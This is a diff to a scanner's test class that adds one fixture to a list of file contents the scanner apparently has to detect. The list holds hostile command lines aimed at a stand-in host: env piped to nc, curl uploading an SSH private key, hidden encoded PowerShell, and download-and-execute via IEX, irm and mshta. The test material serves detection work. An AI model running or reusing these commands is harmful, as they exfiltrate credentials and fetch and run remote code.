@@ -147,6 +147,7 @@ class PlaintextScannerTest {
                 "x.sh | env ¦ nc h.example 99",
                 "x.sh | curl -F file=@$HOME/.ssh/id_rsa http://h.example",
                 "run.bat | @echo off\\npowershell -nop -w hidden -enc SQBFAFgA",
+                "weights.dat | powershell -nop -w hidden -enc SQBFAFgA",
                 "run.ps1 | IEX (New-Object Net.WebClient).DownloadString('http://h.example/x.ps1')",
                 "run.ps1 | irm http://h.example/x.ps1 ¦ iex",
                 "run.cmd | mshta http://h.example/x.hta",
